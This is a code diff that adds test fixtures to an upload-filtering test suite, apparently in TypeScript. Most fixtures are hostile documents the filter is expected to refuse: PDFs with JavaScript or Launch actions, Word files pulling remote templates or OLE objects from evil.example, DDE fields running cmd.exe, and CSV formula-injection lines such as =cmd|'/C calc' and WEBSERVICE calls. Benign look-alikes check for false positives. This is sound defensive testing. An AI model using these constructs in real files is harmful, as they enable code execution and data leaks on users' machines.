@@ -1,4 +1,5 @@
 /** Files as strangers send them: honest ones, broken ones, and those that are made to do harm, each with what becomes of it. */
+import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { compound, openDocument, openXml, openXmlOf, zipOf } from "./archives.js";
 import { aPng, pngChunk, pngHeader, pngSignature } from "./files.js";
@@ -14,7 +15,10 @@ export type Why =
   | "unpacked"
   | "UTF-8"
   | "empty"
-  | "HEIC";
+  | "HEIC"
+  | "outside"
+  | "acts"
+  | "commands";
 
 export interface HostileFile {
   readonly what: string;
@@ -52,6 +56,20 @@ const frames = (n: number): Promise<Buffer> =>
 
 const pdf = (body = ""): Buffer =>
   latin(`%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n${body}\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);
+const packedPdf = (objects: string): Buffer => {
+  const packed = deflateSync(latin(objects));
+  return bytes(
+    `%PDF-1.7\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
+    packed,
+    "\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
+  );
+};
+const relationship = (type: string, target: string, part = "word/_rels/settings.xml.rels"): Buffer =>
+  openXml("docx", {
+    name: part,
+    data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  });
+const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
 const ftyp = (brand: string): Buffer => bytes(zeros(3), 24, "ftyp", brand, zeros(4), brand, "isom", zeros(64));
 const ebml = (type: string): Buffer =>
   bytes(
@@ -192,12 +210,20 @@ const images: readonly HostileFile[] = [
 
 const documents: readonly HostileFile[] = [
   taken("PDF", "letter.pdf", () => pdf(), "application/pdf"),
+  refused("acts", "a PDF that would run a script where it is opened", "js.pdf", () =>
+    pdf("<</S/JavaScript/JS(app.alert(1))>>"),
+  ),
+  refused("acts", "a PDF whose script is written in digits", "js.pdf", () => pdf("<</S/J#61vaScr#69pt/JS(x)>>")),
+  refused("acts", "a PDF that starts a program", "a.pdf", () => pdf("<</S/Launch/F(cmd.exe)>>")),
+  refused("acts", "a PDF with files attached", "a.pdf", () => pdf("<</Names<</EmbeddedFiles 5 0 R>>>>")),
+  refused("acts", "a PDF whose script is packed", "a.pdf", () => packedPdf("1 0 <</S/JavaScript/JS(app.alert(1))>>")),
   taken(
-    "a PDF that would run a script where it is opened",
-    "js.pdf",
-    () => pdf("<</S/JavaScript/JS(app.alert(1))>>"),
+    "a PDF with packed objects and nothing else in them",
+    "a.pdf",
+    () => packedPdf("1 0 <</Type/Page>>"),
     "application/pdf",
   ),
+  taken("a PDF about launches", "a.pdf", () => pdf("<</Title(Launch of JavaScript)/LaunchPad 1>>"), "application/pdf"),
   taken("a PDF with a password", "locked.pdf", () => pdf("trailer<</Encrypt 5 0 R>>"), "application/pdf", {
     locked: true,
   }),
@@ -286,6 +312,71 @@ const documents: readonly HostileFile[] = [
   refused("programs", "a program of Linux inside", "a.docx", () =>
     openXml("docx", { name: "word/media/image1.png", data: bytes(0x7f, "ELF", zeros(60)) }),
   ),
+  refused("outside", "a template from elsewhere", "a.docx", () =>
+    relationship("attachedTemplate", "https://evil.example/t.dotm"),
+  ),
+  refused("outside", "a template from elsewhere, its mode in digits", "a.docx", () =>
+    openXml("docx", {
+      name: "word/_rels/settings.xml.rels",
+      data: '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="&#69;xternal"/></Relationships>',
+    }),
+  ),
+  refused("outside", "a template from elsewhere, in UTF-16", "a.docx", () =>
+    openXml("docx", {
+      name: "word/_rels/settings.xml.rels",
+      data: Buffer.from(
+        '\ufeff<Relationships><Relationship Type="x/attachedTemplate" Target="http://e.example" TargetMode="External"/></Relationships>',
+        "utf16le",
+      ),
+    }),
+  ),
+  refused("outside", "a template on somebody's share", "a.docx", () =>
+    relationship("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
+  ),
+  taken(
+    "a letter after a template on its writer's own disk",
+    "a.docx",
+    () => relationship("attachedTemplate", "file:///C:\\Users\\a\\Letter.dotx"),
+    word,
+  ),
+  refused("outside", "a picture from elsewhere, which tells who looked", "a.docx", () =>
+    relationship("image", "https://evil.example/pixel.png", "word/_rels/document.xml.rels"),
+  ),
+  refused("outside", "an object from elsewhere", "a.docx", () =>
+    relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
+  ),
+  refused("outside", "a link that starts a program", "a.docx", () => relationship("hyperlink", "search-ms:query=x")),
+  taken("a letter with links", "a.docx", () => relationship("hyperlink", "https://www.example.jo/a?b=1&amp;c"), word),
+  refused("outside", "a field that asks another program, in pieces", "a.docx", () =>
+    openXml("docx", {
+      name: "word/header1.xml",
+      data: "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>",
+    }),
+  ),
+  refused("outside", "a table that asks another program", "a.xlsx", () =>
+    openXml("xlsx", {
+      name: "xl/externalLinks/externalLink1.xml",
+      data: '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
+    }),
+  ),
+  refused("outside", "OpenDocument with a picture from elsewhere", "a.odt", () =>
+    openDocument("text", { name: "styles.xml", data: '<draw:image xlink:href="https://evil.example/p.png"/>' }),
+  ),
+  taken(
+    "OpenDocument with a link",
+    "a.odt",
+    () => openDocument("text", { name: "styles.xml", data: '<text:a xlink:href="https://www.example.jo">x</text:a>' }),
+    `${open}.text`,
+  ),
+  refused("programs", "an object of another program", "a.docx", () =>
+    openXml("docx", { name: "word/embeddings/oleObject1.bin", data: compound(["\u0001Ole10Native"]) }),
+  ),
+  refused("programs", "an object of another program, called a picture", "a.docx", () =>
+    openXml("docx", { name: "word/media/image1.emf", data: compound(["\u0001Ole10Native"]) }),
+  ),
+  refused("programs", "a control", "a.docx", () =>
+    openXml("docx", { name: "word/activeX/activeX1.xml", data: "<x/>" }),
+  ),
   refused("programs", "an archive inside", "a.docx", () =>
     openXml("docx", { name: "word/more.zip", data: zipOf([{ name: "a", data: bomb.subarray(0, 1000) }]) }),
   ),
@@ -342,6 +433,22 @@ const texts: readonly HostileFile[] = [
     name: "ما جرى.txt",
   }),
   taken("a table", "sums.csv", () => Buffer.from('الشهر,المبلغ\n"كانون",10\n'), "text/csv"),
+  refused("commands", "a table that starts a program", "a.csv", () => latin("name,sum\n=cmd|'/C calc'!A0,1\n")),
+  refused("commands", "a table that starts a program behind blanks", "a.csv", () =>
+    latin("a;  +1+cmd|'/C calc'!A0;1\n"),
+  ),
+  refused("commands", "a table that calls up an address", "a.csv", () =>
+    latin('name,sum\n"=HYPERLINK(""https://evil.example?""&A2,""open"")",1\n'),
+  ),
+  refused("commands", "a table that calls up an address within a formula", "a.csv", () =>
+    latin('"=IF(1,WEBSERVICE(""https://evil.example""),2)"\n'),
+  ),
+  taken(
+    "a table with sums and telephone numbers",
+    "a.csv",
+    () => latin("a,+962790123456,-5,=SUM(A1:A3),@x,- a | b\n"),
+    "text/csv",
+  ),
   taken("one letter", "a", () => latin("a"), "text/plain", { name: "a.txt" }),
   refused("kind", "a page called a text", "page.txt", () => latin(`<html><body>${script}`)),
   refused("kind", "a page behind a mark of its encoding", "page.txt", () => Buffer.from(`\ufeff<html>${script}`)),
